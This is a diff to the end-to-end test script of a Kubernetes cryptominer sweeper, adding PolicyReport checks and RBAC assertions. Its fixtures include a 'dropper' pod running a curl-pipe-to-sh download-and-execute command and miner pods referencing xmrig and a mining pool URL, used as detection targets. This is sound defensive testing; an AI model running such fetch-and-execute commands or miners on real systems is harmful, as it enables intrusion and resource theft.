@@ -2,9 +2,10 @@
 # stratum-guard against a real kube-apiserver (v1.20.2, with etcd, on loopback): `make e2e`.
 #   test/e2e/run.sh BINARY
 # What it proves, in this order (test/e2e/README.md says why each step is there):
-#   1. the manifests' Namespace, ServiceAccount and RBAC apply;
+#   1. the manifests' Namespace, ServiceAccount and RBAC apply, and the PolicyReport CRD;
 #   2. the sweeper, as that ServiceAccount (a client certificate RBAC maps to it), lists, watches
-#      and deletes miner pods and keeps benign ones, writes Events, takes the Lease while a
+#      and deletes miner pods and keeps benign ones, writes Events and the namespace's
+#      PolicyReport, takes the Lease while a
 #      second sweeper waits, survives an API server restart mid-watch, and hands the Lease over;
 #      the ServiceAccount can do nothing else the tests try;
 #   3. the manifests' webhook configuration, pointed at the binary on 127.0.0.1, judges every
@@ -108,6 +109,13 @@ admin apply -n "$ns" -f "$work/rbac.yaml" >"$work/apply-rbac.log" 2>&1 ||
   die "applying the RBAC failed" "$work/apply-rbac.log"
 pass "the manifests' Namespace, ServiceAccount, ClusterRole(Binding) and Role(Binding) applied"
 
+# The PolicyReport CRD, from the optional component (manifests/policy-reports), as published.
+admin apply -f "$src/manifests/policy-reports/crd.yaml" >"$work/apply-crd.log" 2>&1 ||
+  die "applying the PolicyReport CRD failed" "$work/apply-crd.log"
+admin wait --for condition=established --timeout=60s crd/policyreports.wgpolicyk8s.io \
+  >>"$work/apply-crd.log" 2>&1 || die "the PolicyReport CRD was not established" "$work/apply-crd.log"
+pass "the PolicyReport CRD is established on the real API server"
+
 # ---------------------------------------------------------------------------------------------
 echo "== The sweeper as its ServiceAccount, under the manifests' RBAC"
 sign_client_cert sa "/O=system:serviceaccounts/O=system:serviceaccounts:$ns/CN=system:serviceaccount:$ns:$sa"
@@ -116,12 +124,16 @@ write_kubeconfig sa "$KUBE_DIR/sa.kubeconfig"
 # Least privilege: what the ClusterRole and the Role grant, and a sample of what they must not.
 can() { as_sa auth can-i "$@" 2>/dev/null || true; }
 for allowed in "list pods -A" "watch pods -A" "delete pods -n default" "create events -n default" \
-               "create leases -n $ns" "update leases/stratum-guard-sweeper -n $ns"; do
+               "create leases -n $ns" "update leases/stratum-guard-sweeper -n $ns" \
+               "create policyreports.wgpolicyk8s.io -n default" \
+               "update policyreports.wgpolicyk8s.io -n default"; do
   [[ $(can $allowed) == yes ]] && pass "the ServiceAccount may $allowed" || fail "the ServiceAccount may not $allowed"
 done
 for denied in "get secrets -n $ns" "list secrets -A" "create pods -n default" "patch pods -n default" \
               "delete deployments -n default" "update leases/other -n $ns" "create leases -n default" \
-              "update validatingwebhookconfigurations" "list nodes"; do
+              "update validatingwebhookconfigurations" "list nodes" \
+              "patch policyreports.wgpolicyk8s.io -n default" \
+              "create clusterpolicyreports.wgpolicyk8s.io"; do
   [[ $(can $denied) == no ]] && pass "the ServiceAccount may not $denied" || fail "the ServiceAccount may $denied"
 done
 
@@ -145,6 +157,9 @@ pod e2e-sweep xmrig xmrig/xmrig:6.21.0 | admin create -f - >/dev/null
 pod e2e-sweep cache alpine:3.20 --url stratum+tcp://pool.supportxmr.com:3333 | admin create -f - >/dev/null
 # Its own pod, which it must never delete: named as the sweeper's POD_NAME says.
 pod "$ns" stratum-guard-a xmrig/xmrig:6.21.0 | admin create -f - >/dev/null
+# A dropper: a warn finding, kept running, so it stays in the namespace's PolicyReport.
+pod e2e-sweep dropper alpine:3.20 sh -c 'curl -s http://10.0.0.9/x.sh | sh' | admin create -f - >/dev/null
+
 
 start_sweeper() {  # start_sweeper NAME -> the PID; logs in $work/NAME.log
   POD_NAME=stratum-guard-$1 POD_NAMESPACE=$ns setsid "$bin" sweep --kubeconfig "$KUBE_DIR/sa.kubeconfig" \
@@ -170,6 +185,19 @@ events() { admin get events -n e2e-sweep --field-selector "reason=$1" -o json | 
 wait_for 10 test "$(events MinerPodDeleted)" == "cache xmrig" &&
   pass "MinerPodDeleted Events on both pods, written as the ServiceAccount" ||
   fail "MinerPodDeleted Events on '$(events MinerPodDeleted)'"
+exists pod e2e-sweep dropper && pass "the pod with only a warn finding was kept" ||
+  fail "the pod with only a warn finding was deleted"
+# One report for the namespace, written as the ServiceAccount; the deleted miners left it.
+report_results() {
+  admin get policyreports -n e2e-sweep stratum-guard -o json 2>/dev/null |
+    jq -r '.results[] | "\(.resources[0].name) \(.rule) \(.result)"' | sort | paste -sd','
+}
+wait_for 30 test "$(report_results)" == "dropper download-exec warn" &&
+  pass "the namespace's PolicyReport lists the dropper's warn finding, and no deleted pod" ||
+  fail "PolicyReport results: '$(report_results)'"
+[[ $(admin get policyreports -A -o name 2>/dev/null | wc -l) == 1 ]] &&
+  pass "kubectl get policyreports -A lists one report" ||
+  fail "policy reports: $(admin get policyreports -A -o name 2>&1 | paste -sd' ')"
 
 sweeper_b=$(start_sweeper b)
 record sweeper-b "$sweeper_b"
